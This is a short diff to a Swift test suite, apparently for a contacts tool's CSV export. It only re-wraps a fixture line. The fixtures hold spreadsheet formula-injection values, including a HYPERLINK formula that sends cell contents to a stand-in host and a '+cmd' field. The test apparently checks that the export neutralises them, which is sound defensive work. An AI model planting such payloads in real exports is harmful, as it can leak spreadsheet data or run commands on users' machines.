@@ -152,7 +152,8 @@ struct ImportCommandTests {
         let root = try Fixtures.copy(Fixtures.template)
         try Fixtures.write(
             [
-                "contacts/evil.md": "---\nname: \"=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"hi\\\")\"\norg: \"+cmd\"\ntitle: \"@SUM(1)\"\nphones: [\"-1+1\"]\n---\n",
+                "contacts/evil.md":
+                    "---\nname: \"=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"hi\\\")\"\norg: \"+cmd\"\ntitle: \"@SUM(1)\"\nphones: [\"-1+1\"]\n---\n",
                 "publications/evil.md": "---\ntitle: \"=1+1\"\nstatus: idea\n---\n",
             ], under: root)
         let sheet = try TiesBinary.run(["export", "csv"], in: root).stdout
